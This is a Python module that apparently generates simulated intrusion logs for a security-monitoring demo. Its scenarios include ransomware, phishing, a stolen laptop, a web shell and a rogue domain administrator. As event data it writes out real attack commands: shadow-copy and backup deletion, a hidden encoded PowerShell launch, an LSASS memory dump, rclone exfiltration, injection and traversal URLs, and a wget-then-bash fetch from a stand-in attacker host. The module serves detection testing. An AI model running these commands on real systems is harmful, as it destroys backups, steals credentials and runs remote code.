"""Stories of people who break in. `at` is when a story begins, in seconds since 1970; everything else follows from it."""

from collections.abc import Iterator
from random import Random

from beffroi.demo import acts, cloud
from beffroi.demo.acts import CMD, DISK, EXPLORER, GATE, NAS, PVE, SERVICES, WEB, windows
from beffroi.demo.house import House, Person
from beffroi.demo.said import Said, every, in_order, together
from beffroi.demo.windows import SYSTEM_ITSELF, Session

MINUTE, HOUR = 60.0, 3_600.0
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
HIDDEN = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
ATTACKER = "203.0.113.66"


def spray_then_encryption(house: House, at: float, rng: Random) -> Iterator[Said]:
    """Friday evening: one password is tried on all accounts of the VPN, one of them has it. By remote desktop to the terminal server, a
    look around, and at ten past two on Saturday, three and a half hours later, the shares."""
    names = [each.login for each in house.people]
    rng.shuffle(names)
    who, given = house.person("m.bouchra"), "10.212.134.31"
    desk, care, inside = windows(house, "SRV-TS"), windows(house, "SRV-SOINS"), at + 55 * MINUTE
    session, signed = desk.signed_in(inside + 4 * MINUTE, who, 10, given)
    asked = (
        "whoami /all",
        'net group "Admins du domaine" /domain',
        "nltest /dclist:tilleuls",
        "net view /domain",
        "ipconfig /all",
    )
    night = at + 3.5 * HOUR
    evening: list[Said] = [
        GATE.vpn_opened(inside, who.login, ATTACKER, given, "Netherlands"), windows(house, "SRV-DC").ticket(inside + 239, who, given), signed,
        *(desk.runs(inside + 6 * MINUTE + step * 40, session, CMD, line, f"{SYSTEM32}{line.split()[0]}.exe")[1] for step, line in enumerate(asked)),
        care.signed_in(night - 8 * MINUTE, who, 3, given, "SRV-TS")[1],
        care.runs(night - 5 * MINUTE, SYSTEM_ITSELF, CMD, "vssadmin.exe delete shadows /all /quiet", f"{SYSTEM32}vssadmin.exe")[1],
        NAS.connected(night - MINUTE, who.login, given, "soins"),
    ]  # fmt: skip
    return together(
        acts.spray(at, ATTACKER, names, 70, "Netherlands"), evening, acts.encryption(night, who.login, given, 900, 12)
    )  # fmt: skip


def leaked_password(house: House, at: float, rng: Random) -> Iterator[Said]:
    """The director's password was in a leak. She works at home until midnight; at three somebody in another country opens the VPN with it at the
    first try, reads what lies on the direction's share, and then her mailbox."""
    who, stranger, given = house.person("b.lannoy"), "203.0.113.201", "10.212.134.44"
    yield GATE.vpn_opened(at - 5 * HOUR, who.login, "198.51.100.77", "10.212.134.21")
    yield GATE.vpn_closed(at - 3 * HOUR, who.login, "198.51.100.77", "10.212.134.21", 120)
    yield GATE.vpn_opened(at, who.login, stranger, given, "Brazil")
    yield NAS.connected(at + 90, who.login, given, "direction")
    for number, moment in every(at + 100, 2.5, 180):
        yield NAS.read(moment, who.login, given, "direction", f"personnel/dossier {number + 1:03d}.pdf")
    yield cloud.signed_in(at + 700, who, stranger, cloud.LINUX, "Linux")
    for number, moment in every(at + 760, 20, 12):
        yield cloud.letters_read(moment, who, stranger, "Client=OWA;Action=ViaProxy", rng.randint(8, 40) + number)
    yield GATE.vpn_closed(at + 1_500, who.login, stranger, given, 25)


def phishing(house: House, at: float, rng: Random) -> list[Said]:
    """At the reception a letter's attachment is opened: the document starts PowerShell, a program is fetched, passwords are taken out of the
    memory of Windows, and with them the care server is entered."""
    del rng
    who, here, care = house.person("s.mottart"), windows(house, "PC-ACCUEIL"), windows(house, "SRV-SOINS")
    session, signed = here.signed_in(at - 2 * HOUR, who, 2)
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
    mail, opened = here.runs(at, session, EXPLORER, f'"{office}OUTLOOK.EXE"', f"{office}OUTLOOK.EXE")
    word, read = here.runs(
        at + 30,
        session,
        mail,
        f'"{office}WINWORD.EXE" /n "C:\\Users\\s.mottart\\AppData\\Local\\Temp\\facture 2026-118.docm"',
        f"{office}WINWORD.EXE",
    )
    shell, hidden = here.runs(
        at + 41, session, word, f"powershell.exe -nop -w hidden -enc {HIDDEN}{HIDDEN}", POWERSHELL
    )
    tool, fetched = here.runs(at + 75, session, shell, "C:\\Users\\Public\\Libraries\\maj.exe -s")
    story = [signed, opened, read, hidden, fetched]
    for step, line in enumerate(
        ("whoami /groups", 'net group "Admins du domaine" /domain', "nltest /dclist:tilleuls", "net view", "systeminfo")
    ):
        story.append(here.runs(at + 240 + step * 25, session, tool, line, f"{SYSTEM32}{line.split()[0]}.exe")[1])
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\Libraries\\l.dmp full"
    story.append(here.runs(at + 900, session, tool, dump, f"{SYSTEM32}rundll32.exe")[1])
    power, entered = care.signed_in(at + 2_100, house.provider, 3, here.address, "PC-ACCUEIL")
    story += [
        entered, care.powerful(at + 2_100.1, power), care.on_share(at + 2_101, power, "ADMIN$", "WKXDQPLM.exe", "0x12019f", "%%4417"),
        care.on_share(at + 2_103, power, "IPC$", "svcctl", "0x12019f", "%%4416"), care.service(at + 2_104, "WKXDQPLM", "%SystemRoot%\\WKXDQPLM.exe"),
        care.service(at + 2_160, "BTOBTO", "%COMSPEC% /Q /c echo net localgroup ^> \\\\127.0.0.1\\C$\\__output > %TEMP%\\execute.bat"),
        care.runs(at + 2_161, SYSTEM_ITSELF, SERVICES, "cmd.exe /Q /c net localgroup Administrateurs", CMD)[1],
    ]  # fmt: skip
    return in_order(story)


def stolen_laptop(house: House, at: float, rng: Random) -> list[Said]:
    """A portable was stolen with its password on a note: at four in the night it opens the VPN, a remote-control tool is put on it and on the
    terminal server, and files are carried away."""
    del rng
    who, given, stranger = house.person("p.teixeira"), "10.212.134.52", "203.0.113.122"
    portable, desk = windows(house, "PORTABLE-1"), windows(house, "SRV-TS")
    session, signed = portable.signed_in(at, who, 2)
    far, entered = desk.signed_in(at + 300, who, 10, given)
    loaded = "C:\\Users\\p.teixeira\\Downloads\\AnyDesk.exe"
    story = [signed, GATE.vpn_opened(at + 120, who.login, stranger, given), entered]
    first, ran = portable.runs(at + 60, session, EXPLORER, f'"{loaded}"', loaded)
    story += [
        ran,
        portable.runs(
            at + 90,
            session,
            first,
            f'"{loaded}" --install "C:\\Program Files (x86)\\AnyDesk" --start-with-win --silent',
            loaded,
        )[1],
    ]
    story.append(
        portable.service(
            at + 96, "AnyDesk Service", '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service', "auto start"
        )
    )
    story.append(desk.runs(at + 420, far, EXPLORER, f'"{loaded}"', loaded)[1])
    carry = "C:\\Users\\p.teixeira\\Downloads\\rclone.exe copy \\\\nas\\soins depot:soins --transfers 8 --quiet"
    story.append(desk.runs(at + 900, far, CMD, carry)[1])
    story += (
        NAS.read(moment, who.login, desk.address, "soins", f"chambre {number % 82 + 1:02d}/dossier {number}.pdf")
        for number, moment in every(at + 903, 0.4, 1_400)
    )
    story += (
        GATE.forwarded(moment, desk.address, stranger, 443, 900_000_000, 2_000_000)
        for _, moment in every(at + 1_000, 60, 8)
    )
    return in_order(story)


def ransomware_on_the_nas(house: House, at: float, rng: Random) -> Iterator[Said]:
    """With a nurse's account, from a workplace upstairs, the files of the DiskStation are written anew and renamed; a note is left in each
    folder."""
    del rng
    who, address = house.person("c.vandestoc").login, house.machine("PC-ETAGE-1").address
    yield DISK.opened(at, who, address, "administration")
    for number, moment in every(at + 5, 0.25, 1_200):
        folder = f"/administration/dossier {number // 30:02d}"
        file = f"{folder}/lettre {number}.docx"
        yield DISK.file(moment, "read", file, who, address)
        yield DISK.file(moment + 0.05, "write", file, who, address)
        yield DISK.file(moment + 0.1, "rename", f"{file} -> {file}.akira", who, address)
        if number % 30 == 29:
            yield DISK.file(moment + 0.12, "create", f"{folder}/akira_readme.txt", who, address, "2.10 KB")


def web_shell(house: House, at: float, rng: Random) -> Iterator[Said]:
    """The website is searched for weak spots, one is found, a page is left behind that obeys, and it is used."""
    del house
    stranger = "203.0.113.150"
    for number, moment in every(at, 1.1, 160):
        path = rng.choice(("/wp-content/plugins/{}/readme.txt", "/{}/admin.php", "/{}.bak", "/old/{}.zip")).format(
            f"p{number}"
        )
        yield WEB.page(moment, stranger, path, 404, "Mozilla/5.0 (compatible; Nuclei)")
    begin = at + 240
    for step, path in enumerate((
        "/galerie/index.php?page=../../../../etc/passwd", "/galerie/index.php?id=1%27%20UNION%20SELECT%201,user(),3--%20-",
        "/galerie/index.php?q=%3Cscript%3Ealert(1)%3C/script%3E",
    )):  # fmt: skip
        yield WEB.page(begin + step * 9, stranger, path, 200, "Mozilla/5.0 (compatible; Nuclei)")
    yield WEB.page(begin + 60, stranger, "/galerie/upload.php", 200, "curl/8.5.0", "POST")
    for step, command in enumerate(
        (
            "id",
            "uname%20-a",
            "cat%20/etc/passwd",
            "wget%20http://203.0.113.150/b.sh%20-O%20/tmp/b.sh",
            "bash%20/tmp/b.sh",
        )
    ):
        yield WEB.page(begin + 75 + step * 20, stranger, f"/galerie/uploads/photo.php?cmd={command}", 200, "curl/8.5.0")


def copies_first(house: House, at: float, rng: Random) -> Iterator[Said]:
    """With the provider's own account the copies go first: those of Windows, those on the DiskStation, the machines of the hypervisor; the
    Security log is emptied; then the shares of the care server."""
    del rng
    who, address = house.provider, "10.212.134.10"
    care = windows(house, "SRV-SOINS")
    session, signed = care.signed_in(at + 60, who, 10, address)
    shell, began = care.runs(at + 90, session, EXPLORER, f'"{CMD}"', CMD)
    net = care.session(at + 900, who, address)
    lines = (
        "vssadmin.exe delete shadows /all /quiet", "wbadmin.exe delete catalog -quiet", "bcdedit.exe /set {default} recoveryenabled no",
        "net.exe stop VeeamBackupSvc",
    )  # fmt: skip
    copies: list[Said] = [
        GATE.vpn_opened(at, who.login, "203.0.113.177", address, "Romania"), signed, care.powerful(at + 60.1, session), began,
        *(care.runs(at + 120 + step * 6, session, shell, line, f"{SYSTEM32}{line.split()[0]}")[1] for step, line in enumerate(lines)),
        DISK.signed_in(at + 200, "admin", address), PVE.signed_in(at + 520, "root@pam"),
        *(PVE.task(at + 530 + number, "qmstop", 100 + number, "root@pam") for number in range(6)), care.cleared(at + 800, session),
    ]  # fmt: skip
    gone = (
        DISK.file(
            moment, "delete", f"/copies/202611{number % 28 + 1:02d}/bloc-{number:05d}.bin", "admin", address, "16.00 MB"
        )
        for number, moment in every(at + 210, 0.15, 2_000)
    )
    return together(copies, gone, _encrypted(house, at + 905, net))


def _encrypted(house: House, at: float, by: Session) -> Iterator[Said]:
    """A share of Windows, file after file, as its audit tells it."""
    care = windows(house, "SRV-SOINS")
    for number, moment in every(at, 0.1, 1_500):
        file = f"dossiers\\resident {number % 82:02d}\\piece {number}.pdf"
        yield care.wrote_on_share(moment, by, "Dossiers", file)
        yield care.gone_from_share(moment + 0.02, by, "Dossiers", file)


def ssh_all_night(house: House, at: float, rng: Random) -> Iterator[Said]:
    """Passwords are guessed at the web server's door from eight in the evening to six in the morning, and none is right."""
    del house
    names = ["root", "admin", "ubuntu", "test", "oracle", "git", "postgres", "deploy", "www", "ftp"]
    rng.shuffle(names)
    return acts.guessing(at, WEB, "203.0.113.9", names, 1_800, 20)


def new_administrator(house: House, at: float, rng: Random) -> list[Said]:
    """In the evening a new account is made on the domain controller, put among the administrators and used at once for a service that starts a
    shell."""
    del rng
    dc, mole = windows(house, "SRV-DC"), Person("Support", "support1", "maintenance", "office", 1_399)
    session, signed = dc.signed_in(at, house.person("r.collard"), 3, "192.168.10.34", "PC-SOINS")
    own, entered = dc.signed_in(at + 400, mole, 3, "192.168.10.34", "PC-SOINS")
    task = "C:\\Users\\Public\\sync.ps1"
    return in_order([
        signed, dc.made_account(at + 60, session, mole), dc.made_administrator(at + 75, session, mole), entered, dc.powerful(at + 400.1, own),
        dc.planned(at + 460, own, "\\MAJ", POWERSHELL, f"-nop -w hidden -file {task}"),
    ])  # fmt: skip
